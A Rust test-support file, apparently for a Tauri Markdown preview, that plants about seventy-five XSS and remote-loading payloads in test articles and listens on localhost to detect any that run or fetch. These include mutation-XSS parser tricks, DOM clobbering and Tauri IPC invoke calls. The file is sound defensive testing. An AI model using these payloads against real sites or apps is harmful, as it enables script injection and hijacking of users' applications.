//! Texts that try to run, to leave, to load something from elsewhere or to ask the app something; and who listens for them.
//!
//! Here as files of an author, with each attack in every place that a person fills in. What Markdown makes of many more stands in
//! `markdown/tests/attacks.rs`; this table is for what a real page in a real browser does.

use std::fs;
use std::io::{Read as _, Write as _};
use std::net::{Ipv4Addr, TcpListener, TcpStream};
use std::path::Path;
use std::sync::{Arc, Mutex, PoisonError};
use std::time::Duration;

use serde_json::json;

/// The attacks. `RUN` is a script without a space that says that it ran, `URL` an address of whoever listens, `NAME` its host.
pub const ATTACKS: &[&str] = &[
    // Scripts.
    "<script>RUN</script>",
    "<script src=\"URL\"></script>",
    "<script type=\"module\">import 'URL'</script>",
    "</p></div></main></body></html><script>RUN</script>",
    "<script>parent.document.body.dataset.taken='1'</script>",
    "<script>top.__TAURI_INTERNALS__.invoke('window_close')</script>",
    "<script>webkit.messageHandlers.ipc.postMessage('{\"cmd\":\"window_close\"}')</script>",
    // Events.
    "<img src=x onerror=\"RUN\">",
    "<img/src=x/onerror=RUN>",
    "<svg onload=\"RUN\"></svg>",
    "<body onload=\"RUN\" background=\"URL\">",
    "<details open ontoggle=\"RUN\"><summary>x</summary></details>",
    "<input autofocus onfocus=\"RUN\">",
    "<video src=x onerror=\"RUN\"></video>",
    "<audio src=x onerror=\"RUN\"></audio>",
    "<video><source onerror=\"RUN\"></video>",
    "<marquee onstart=\"RUN\">x</marquee>",
    "<a href=\"#\" onclick=\"RUN\">go</a>",
    // Addresses.
    "<a href=\"javascript:RUN\">go</a>",
    "<a href=\"java&#9;script:RUN\">go</a>",
    "<a href=\"data:text/html,<script>RUN</script>\">go</a>",
    "[go](javascript:RUN)",
    "<a href=\"tauri://localhost/\" target=\"_top\">go</a>",
    "<a href=\"URL\" target=\"_top\" ping=\"URL\">go</a>",
    "<a href=\"URL\" target=\"_blank\">go</a>",
    // Frames and what is put in.
    "<iframe src=\"URL\"></iframe>",
    "<iframe srcdoc=\"<script>RUN</script><img src='URL'>\"></iframe>",
    "<iframe src=\"javascript:RUN\"></iframe>",
    "<iframe src=\"tauri://localhost/\"></iframe>",
    "<object data=\"URL\"></object>",
    "<embed src=\"URL\">",
    "<applet codebase=\"URL\" code=\"x\"></applet>",
    // The page's own head, and forms.
    "<meta http-equiv=\"refresh\" content=\"0;url=URL\">",
    "<base href=\"URL/\"><img src=\"x.png\">",
    "<base target=\"_top\">",
    "<form action=\"URL\" target=\"_top\"><input type=\"image\" src=\"URL\" autofocus><button>go</button></form>",
    "<form action=\"ipc://localhost/window_close\" method=\"post\"><button>go</button></form>",
    "<button formaction=\"URL\">go</button>",
    "<link rel=\"stylesheet\" href=\"URL\">",
    "<link rel=\"preload\" as=\"image\" href=\"URL\">",
    "<link rel=\"modulepreload\" href=\"URL\">",
    "<link rel=\"prefetch\" href=\"URL\">",
    "<link rel=\"preconnect\" href=\"http://NAME/\">",
    "<link rel=\"dns-prefetch\" href=\"//NAME\">",
    "<link rel=\"icon\" href=\"URL\">",
    "<link rel=\"manifest\" href=\"URL\">",
    // Styles.
    "<style>@import 'URL';</style>",
    "<style>body{background:url(URL)}</style>",
    "<style>@font-face{font-family:x;src:url(URL)}*{font-family:x!important}</style>",
    "<p style=\"background:url(URL)\">x</p>",
    "<div style=\"list-style-image:url(URL);display:list-item\">x</div>",
    "<p style=\"position:fixed;inset:0;z-index:9\">x</p>",
    // Other namespaces, and what a second reading of the text makes of it.
    "<svg><script href=\"URL\"></script></svg>",
    "<svg><image href=\"URL\"/><use href=\"URL#a\"></use></svg>",
    "<svg><filter id=\"f\"><feImage href=\"URL\"/></filter><rect filter=\"url(#f)\" width=\"9\" height=\"9\"/></svg>",
    "<svg><a xlink:href=\"javascript:RUN\"><text y=\"20\">go</text></a></svg>",
    "<svg><set attributeName=\"onload\" to=\"RUN\"/></svg>",
    "<svg><foreignObject><iframe src=\"URL\"></iframe></foreignObject></svg>",
    "<svg></p><style><a id=\"</style><img src=x onerror=RUN>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=RUN&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>",
    "<math href=\"javascript:RUN\">go</math>",
    "<noscript><p title=\"</noscript><img src=x onerror=RUN>\"></noscript>",
    "<textarea><p title=\"</textarea><img src=x onerror=RUN>\">",
    "<title><a title=\"</title><img src=x onerror=RUN>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=RUN>\">",
    "<select><template><img src=x onerror=RUN></template></select>",
    "<plaintext><img src=x onerror=RUN>",
    "<!--><img src=x onerror=RUN>-->",
    "<a id=\"__TAURI_INTERNALS__\" name=\"document\">x</a><form id=\"top\"><input name=\"body\"></form>",
    // Through Markdown's own signs.
    "# x {#a\"><img src=x onerror=RUN>}",
    "| a |\n| - |\n| <img src=x onerror=RUN> |",
    "$</span><script>RUN</script>$",
    "```x\"><script>RUN</script>\nx\n```",
    "> [!NOTE]\n> </div><script>RUN</script>",
    "https://www.youtube.com/watch?v=\"><script>RUN</script>",
];

/// Pictures and films from elsewhere. A site may have them, if its author wants; the preview loads none.
pub const LOADS: &[&str] = &[
    "<img src=\"URL\">",
    "<img srcset=\"URL 1x, URL 2x\" src=\"x.png\">",
    "<picture><source srcset=\"URL\"><img src=\"URL\"></picture>",
    "<img src=\"//NAME/slashes\">",
    "<video autoplay muted poster=\"URL\" src=\"URL\"><track default src=\"URL\"></video>",
    "<audio preload=\"auto\" src=\"URL\"></audio>",
    "<table background=\"URL\"><tr><td background=\"URL\">x</table>",
    "<img src=\"ipc://localhost/window_close\">",
    "![x](URL)",
    "![x](URL \"caption\")",
    "![x][p]\n\n[p]: URL",
    "![x](URL) ![y](URL)",
];

/// A computer of someone else's: it counts who comes, by which address.
pub struct Stranger {
    port: u16,
    heard: Arc<Mutex<Vec<String>>>,
}

impl Stranger {
    /// Listens from now on, for as long as the program runs.
    ///
    /// # Panics
    /// Where this machine has no free port.
    pub fn listen() -> Self {
        let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).expect("this machine has a free port");
        let port = listener.local_addr().expect("it is bound").port();
        let heard = Arc::<Mutex<Vec<String>>>::default();
        let hears = Arc::clone(&heard);
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                hear(stream, &hears);
            }
        });
        Self { port, heard }
    }

    /// What came since this was asked last: the first line of each request, or that there was none. A friend comes first, so that it is
    /// known that someone listens.
    ///
    /// # Panics
    /// Where the friend is not heard.
    pub fn heard(&self) -> Vec<String> {
        let mut friend = TcpStream::connect((Ipv4Addr::LOCALHOST, self.port)).expect("someone listens there");
        friend.write_all(b"GET /friend HTTP/1.1\r\n\r\n").expect("it is taken");
        let mut answer = Vec::new();
        friend.read_to_end(&mut answer).expect("it is answered");
        let mut heard = std::mem::take(&mut *self.heard.lock().unwrap_or_else(PoisonError::into_inner));
        assert!(heard.pop().is_some_and(|line| line.contains("/friend")), "a friend is heard");
        heard
    }

    /// The attack with this number. Every second one names the host by a name, the others by its number.
    pub fn armed(&self, attack: &str, number: usize) -> String {
        let host = if number.is_multiple_of(2) { "127.0.0.1" } else { "stranger.localhost" };
        let name = format!("{host}:{}", self.port);
        let run = format!(
            "(top.taken=top.taken||[]).push('{number}');fetch('http://{name}/{number}/ran');\
             top.__TAURI_INTERNALS__.invoke('settings_author',{{name:'taken'}})"
        );
        attack
            .replace("RUN", &run)
            .replace("URL", &format!("http://{name}/{number}/loaded"))
            .replace("NAME", &name)
    }

    /// Writes each of these as an article, with the attack in headline, lead, category, tags, byline, body, caption and footnote. The
    /// words `mark N.` stand at its beginning, and the first is the newest.
    ///
    /// # Panics
    /// Where the folder cannot be written.
    pub fn write(&self, folder: &Path, attacks: &[&str]) {
        for (number, attack) in attacks.iter().enumerate() {
            let attack = self.armed(attack, number);
            let line = attack.replace('\n', " ");
            let front = format!(
                "title: {}\nlead: {}\ndescription: {}\ncategory: {}\ntags: [{}]\nauthors: [{}]\nslug: attack-{number}\ndate: {}\n",
                json!(line),
                json!(line),
                json!(line),
                json!(format!("Desk {number} {line}")),
                json!(format!("Tag {number} {line}")),
                json!(format!("By {number} {line}")),
                format_args!("2026-02-{:02} {:02}:00", 28 - number / 20, 23 - number % 20),
            );
            let body = format!(
                "mark {number}.\n\n{attack}\n\n![{line}](x.png '{line}')\n\nA note[^n].\n\n[^n]: {line}\n"
            );
            let file = folder.join(format!("{number}.md"));
            fs::write(file, format!("---\n{front}---\n\n{body}")).expect("the folder can be written");
        }
    }
}

/// Reads what is asked, notes it, and answers with nothing.
fn hear(mut stream: TcpStream, heard: &Mutex<Vec<String>>) {
    let _ = stream.set_read_timeout(Some(Duration::from_secs(1)));
    let mut head = [0; 512];
    let got = stream.read(&mut head).unwrap_or_default();
    let line = String::from_utf8_lossy(&head[..got]).lines().next().unwrap_or("(no word)").to_owned();
    heard.lock().unwrap_or_else(PoisonError::into_inner).push(line);
    let _ = stream.write_all(
        b"HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
    );
}
